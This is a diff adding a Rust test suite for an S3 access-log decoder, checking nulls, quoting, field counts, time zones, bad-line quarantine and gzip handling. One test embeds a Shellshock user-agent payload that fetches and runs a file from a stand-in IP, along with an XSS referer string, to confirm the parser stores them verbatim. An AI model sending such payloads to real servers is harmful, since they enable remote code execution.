@@ -1,0 +1,358 @@
+//! One test per rule the access-log format and real logs impose (issue #2), each named after
+//! the rule, built from real corpus lines.
+
+mod common;
+
+use common::*;
+use s3trawl::format::access_log::DecoderOptions;
+use serde_json::{Value, json};
+
+fn one_row(line: &str) -> serde_json::Map<String, Value> {
+    let (batches, report) = decode_bytes("t", line.as_bytes());
+    assert!(report.rejects.is_empty(), "{:?}", report.rejects);
+    let mut rows = rows(&batches);
+    assert_eq!(rows.len(), 1);
+    rows.remove(0)
+}
+
+fn rejects(input: &str) -> Vec<s3trawl::format::Reject> {
+    decode_bytes("t", input.as_bytes()).1.rejects
+}
+
+#[test]
+fn dash_is_null_in_every_field() {
+    let logstash = std::fs::read_to_string(
+        corpora().join("access-logs/logstash-patterns-core/aws_spec_S3_ACCESS_LOG_messages.log"),
+    )
+    .unwrap();
+    let r = one_row(logstash.lines().nth(1).unwrap());
+    assert_eq!(r["requester"], Value::Null, "anonymous requester");
+    assert_eq!(r["bytessent"], Value::Null);
+    assert_eq!(r["errorcode"], Value::Null);
+    assert_eq!(r["referrer"], Value::Null, "quoted \"-\"");
+    assert_eq!(r["versionid"], Value::Null);
+}
+
+#[test]
+fn request_uri_quoted_quoted_dash_and_bare_dash() {
+    let line = doc_line();
+    assert_eq!(
+        one_row(&line)["request_uri"],
+        json!("GET /amzn-s3-demo-bucket1?versioning HTTP/1.1")
+    );
+    let quoted_dash = line.replace("\"GET /amzn-s3-demo-bucket1?versioning HTTP/1.1\"", "\"-\"");
+    assert_eq!(one_row(&quoted_dash)["request_uri"], Value::Null);
+    let bare = line.replace("\"GET /amzn-s3-demo-bucket1?versioning HTTP/1.1\"", "-");
+    assert_eq!(one_row(&bare)["request_uri"], Value::Null);
+    assert_eq!(one_row(&bare)["httpstatus"], json!(200));
+}
+
+#[test]
+fn referer_and_user_agent_quoted_quoted_dash_and_bare_dash() {
+    let line = doc_line();
+    for (fields, referrer, agent) in [
+        (
+            r#""-" "S3Console/0.4""#,
+            Value::Null,
+            json!("S3Console/0.4"),
+        ),
+        (r#"- "S3Console/0.4""#, Value::Null, json!("S3Console/0.4")),
+        (r#""http://x/" -"#, json!("http://x/"), Value::Null),
+        (r#"- -"#, Value::Null, Value::Null),
+        (r#""-" "-""#, Value::Null, Value::Null),
+    ] {
+        let r = one_row(&line.replace(r#""-" "S3Console/0.4""#, fields));
+        assert_eq!(
+            (&r["referrer"], &r["useragent"]),
+            (&referrer, &agent),
+            "{fields}"
+        );
+        assert_eq!(
+            r["sigv"],
+            json!("SigV4"),
+            "{fields}: the fields after line up"
+        );
+        assert_eq!(r["aclrequired"], json!("Yes"), "{fields}");
+    }
+}
+
+#[test]
+fn unescaped_quotes_inside_user_agent_and_referer() {
+    let line = doc_line();
+    let shellshock =
+        r#"() { :;}; /bin/bash -c "wget http://198.51.100.9/x -O /tmp/x; chmod +x /tmp/x; /tmp/x""#;
+    let r = one_row(&line.replace(r#""S3Console/0.4""#, &format!("\"{shellshock}\"")));
+    assert_eq!(r["useragent"], json!(shellshock));
+    assert_eq!(r["hostid"].as_str().map(|s| &s[..6]), Some("s9lzHY"));
+    assert_eq!(r["tlsversion"], json!("TLSV1.2"));
+
+    let referer = r#"https://example.com/?q="><script>alert(1)</script>"#;
+    let r = one_row(&line.replace(
+        r#""-" "S3Console/0.4""#,
+        &format!("\"{referer}\" \"Mozilla \"quoted\" agent\""),
+    ));
+    assert_eq!(r["referrer"], json!(referer));
+    assert_eq!(r["useragent"], json!("Mozilla \"quoted\" agent"));
+    assert_eq!(r["aclrequired"], json!("Yes"));
+}
+
+#[test]
+fn spaces_in_referer_and_requester() {
+    let line = doc_line();
+    let r = one_row(&line.replace(
+        r#""-" "S3Console"#,
+        r#""https://www.example.com/search results?q=a b" "S3Console"#,
+    ));
+    assert_eq!(
+        r["referrer"],
+        json!("https://www.example.com/search results?q=a b")
+    );
+    let oai = "arn:aws:iam::cloudfront:user/CloudFront Origin Access Identity E15MNIMTCFKK4C";
+    let owner = "79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be";
+    let with_oai = line.replacen(
+        &format!("192.0.2.3 {owner}"),
+        &format!("192.0.2.3 {oai}"),
+        1,
+    );
+    let r = one_row(&with_oai);
+    assert_eq!(r["requester"], json!(oai));
+    assert_eq!(r["requestid"], json!("3E57427F3EXAMPLE"));
+    assert_eq!(r["operation"], json!("REST.GET.VERSIONING"));
+}
+
+#[test]
+fn records_of_17_to_27_fields_and_beyond() {
+    let line = doc_line(); // 26 fields
+    let fields: Vec<&str> = line.split(' ').collect();
+    // The doc line's 26 fields are 30 space-separated tokens (time, request URI).
+    let tail_start = fields.len() - 9; // versionid …aclrequired
+    for keep in 0..=9 {
+        let cut = fields[..tail_start + keep].join(" ");
+        let r = one_row(&cut);
+        assert_eq!(
+            r["useragent"],
+            json!("S3Console/0.4"),
+            "{} fields",
+            17 + keep
+        );
+        assert_eq!(
+            r["aclrequired"] == json!("Yes"),
+            keep == 9,
+            "{} fields",
+            17 + keep
+        );
+        assert_eq!(
+            r["tlsversion"] == json!("TLSV1.2"),
+            keep >= 7,
+            "{} fields",
+            17 + keep
+        );
+    }
+    let r = one_row(&format!("{line} eu-west-1"));
+    assert_eq!(r["source_region"], json!("eu-west-1"));
+    assert_eq!(r["extra_fields"], Value::Null);
+    let r = one_row(&format!("{line} eu-west-1 NewField1 NewField2"));
+    assert_eq!(r["extra_fields"], json!("NewField1 NewField2"));
+}
+
+#[test]
+fn strict_refuses_unknown_trailing_fields() {
+    let line = format!("{} us-east-1 Unknown", doc_line());
+    let options = DecoderOptions {
+        strict: true,
+        ..Default::default()
+    };
+    let (batches, report) = decode_with("t", line.as_bytes(), options);
+    assert!(batches.is_empty());
+    assert_eq!(report.rejects.len(), 1);
+    assert!(report.rejects[0].reason.contains("--strict"));
+}
+
+#[test]
+fn time_offset_is_honoured() {
+    let beats =
+        std::fs::read_to_string(corpora().join("access-logs/elastic-beats/test.log")).unwrap();
+    let r = one_row(beats.lines().nth(5).unwrap());
+    assert_eq!(
+        r["requestdatetime"],
+        json!("2021-02-09T12:48:42Z"),
+        "[09/Feb/2021:14:48:42 +0200]"
+    );
+    let r = one_row(&doc_line().replace("+0000", "-0930"));
+    assert_eq!(r["requestdatetime"], json!("2019-02-06T09:30:38Z"));
+    assert_eq!(r["timestamp"], json!("2019/02/06"));
+}
+
+#[test]
+fn invalid_utf8_is_replaced_not_fatal() {
+    let mut raw = doc_line()
+        .replace("S3Console/0.4", "S3Console/\u{1}")
+        .into_bytes();
+    let at = raw.iter().position(|b| *b == 1).unwrap();
+    raw[at] = 0xC3; // a lone lead byte
+    raw.extend_from_slice(b"\n\xff\xfe garbage\n");
+    let (batches, report) = decode_bytes("t", &raw);
+    assert_eq!(rows(&batches)[0]["useragent"], json!("S3Console/\u{FFFD}"));
+    assert_eq!(report.rejects.len(), 1);
+    assert!(report.rejects[0].raw.contains('\u{FFFD}'));
+}
+
+#[test]
+fn crlf_line_ends_and_blank_lines_are_tolerated() {
+    let line = doc_line();
+    let input = format!("\r\n{line}\r\n\r\n   \n{line}\r\n");
+    let (batches, report) = decode_bytes("t", input.as_bytes());
+    let rows = rows(&batches);
+    assert!(report.rejects.is_empty());
+    assert_eq!(rows.len(), 2);
+    assert_eq!(
+        rows[0]["aclrequired"],
+        json!("Yes"),
+        "no \\r left in the last field"
+    );
+    assert_eq!(
+        (rows[0]["log_line"].clone(), rows[1]["log_line"].clone()),
+        (json!(2), json!(5))
+    );
+}
+
+#[test]
+fn long_lines() {
+    let agent = format!("Mozilla/5.0 {}", "(KHTML, like Gecko) ".repeat(200));
+    let r = one_row(&doc_line().replace("S3Console/0.4", &agent));
+    assert!(agent.len() > 4000);
+    assert_eq!(r["useragent"], json!(agent));
+}
+
+#[test]
+fn bad_lines_are_quarantined_with_object_line_and_offset() {
+    let line = doc_line();
+    let truncated = &line[..line.find(" - 113 -").unwrap()];
+    let glued = format!("{line}{line}");
+    let impossible = line.replace("06/Feb/2019", "31/Apr/2019");
+    let garbage = "<html><body>503 Service Unavailable</body></html>";
+    let input = format!("{line}\n{truncated}\n{glued}\n{impossible}\n{garbage}\n{line}\n");
+    let (batches, report) = decode_bytes("s3://bucket/logs/obj", input.as_bytes());
+    let rows = rows(&batches);
+    assert_eq!(rows.len(), 2);
+    assert_eq!(rows[1]["log_line"], json!(6));
+    let r = &report.rejects;
+    assert_eq!(r.len(), 4);
+    let lines: Vec<u64> = r.iter().map(|r| r.line).collect();
+    assert_eq!(lines, vec![2, 3, 4, 5]);
+    let offsets: Vec<u64> = r.iter().map(|r| r.byte_offset).collect();
+    let expected: Vec<u64> = {
+        let mut o = Vec::new();
+        let mut pos = 0;
+        for l in input.lines() {
+            o.push(pos as u64);
+            pos += l.len() + 1;
+        }
+        o[1..5].to_vec()
+    };
+    assert_eq!(offsets, expected);
+    assert!(r[0].reason.contains("truncated"), "{}", r[0].reason);
+    assert!(r[1].reason.contains("glued"), "{}", r[1].reason);
+    assert!(r[2].reason.contains("impossible time"), "{}", r[2].reason);
+    assert!(r[3].reason.contains("not a time"), "{}", r[3].reason);
+    assert_eq!(r[3].raw, garbage);
+    assert_eq!(r[0].raw, truncated);
+}
+
+#[test]
+fn plain_gzip_and_multi_member_gzip_give_identical_rows() {
+    let mut content = String::new();
+    for file in [
+        "elastic-beats/test.log",
+        "elastic-integrations/test-s3-server-access.log",
+        "logstash-patterns-core/aws_spec_S3_ACCESS_LOG_messages.log",
+    ] {
+        content
+            .push_str(&std::fs::read_to_string(corpora().join("access-logs").join(file)).unwrap());
+        if !content.ends_with('\n') {
+            content.push('\n');
+        }
+    }
+    let plain = content.as_bytes();
+    let gz = gzip(plain);
+    let half = content[..content.len() / 2].rfind('\n').unwrap() + 1;
+    let mut multi = gzip(&plain[..half]);
+    multi.extend(gzip(&plain[half..]));
+    let mut three = gzip(&plain[..10]);
+    three.extend(gzip(&plain[10..half]));
+    three.extend(gzip(&plain[half..]));
+    let expected = rows(&decode_bytes("o", plain).0);
+    assert_eq!(expected.len() as u64, non_blank_lines(plain));
+    for (what, raw) in [
+        ("gzip", gz),
+        ("two members", multi),
+        ("three members, split mid-line", three),
+    ] {
+        let (batches, report) = decode_bytes("o", &raw);
+        assert!(report.rejects.is_empty(), "{what}");
+        assert_eq!(rows(&batches), expected, "{what}");
+    }
+}
+
+#[test]
+fn a_truncated_gzip_object_keeps_its_good_lines_and_says_where_it_broke() {
+    let line = doc_line();
+    let content: String = (0..2000)
+        .map(|i| line.replace("3E57427F3EXAMPLE", &format!("{i:016}")) + "\n")
+        .collect();
+    let gz = gzip(content.as_bytes());
+    let cut = &gz[..gz.len() / 2];
+    let (batches, report) = decode_bytes("/logs/cut.gz", cut);
+    let rows = rows(&batches);
+    assert!(!rows.is_empty() && rows.len() < 2000);
+    let damage = report.rejects.last().unwrap();
+    assert!(damage.reason.contains("damaged"), "{}", damage.reason);
+    assert_eq!(damage.line, rows.len() as u64 + 1);
+    assert_eq!(damage.byte_offset, (rows.len() * (line.len() + 1)) as u64);
+}
+
+#[test]
+fn binary_and_unknown_objects_are_one_reject_each() {
+    let (b, report) = decode_bytes("x.parquet", b"PAR1\x00\x01\x02binary");
+    assert!(b.is_empty());
+    assert_eq!(report.rejects.len(), 1);
+    assert!(report.rejects[0].reason.contains("binary"));
+    let (b, report) = decode_bytes("README.md", b"# Logs\n\nThese are our logs.\n");
+    assert!(b.is_empty());
+    assert_eq!(report.rejects.len(), 1);
+    assert_eq!(report.rejects[0].raw, "# Logs");
+}
+
+#[test]
+fn large_objects_decoded_in_parallel_keep_line_numbers_and_order() {
+    let line = doc_line();
+    let mut content = String::new();
+    for i in 0..30_000 {
+        if i % 997 == 0 {
+            content.push_str("broken line\n");
+        } else {
+            content.push_str(&line.replace("3E57427F3EXAMPLE", &format!("{i:016}")));
+            content.push('\n');
+        }
+    }
+    assert!(content.len() > 4 * s3trawl::scan::PARALLEL_MIN);
+    let (batches, report) = decode_bytes("big", content.as_bytes());
+    let rows = rows(&batches);
+    assert_eq!(rows.len() + report.rejects.len(), 30_000);
+    for (n, r) in rows.iter().enumerate().step_by(101) {
+        let line_no = r["log_line"].as_u64().unwrap();
+        assert_eq!(
+            r["requestid"],
+            json!(format!("{:016}", line_no - 1)),
+            "row {n}"
+        );
+    }
+    let lines: Vec<u64> = report.rejects.iter().map(|r| r.line).collect();
+    assert_eq!(
+        lines,
+        (0..30_000)
+            .step_by(997)
+            .map(|i| i as u64 + 1)
+            .collect::<Vec<_>>()
+    );
+}
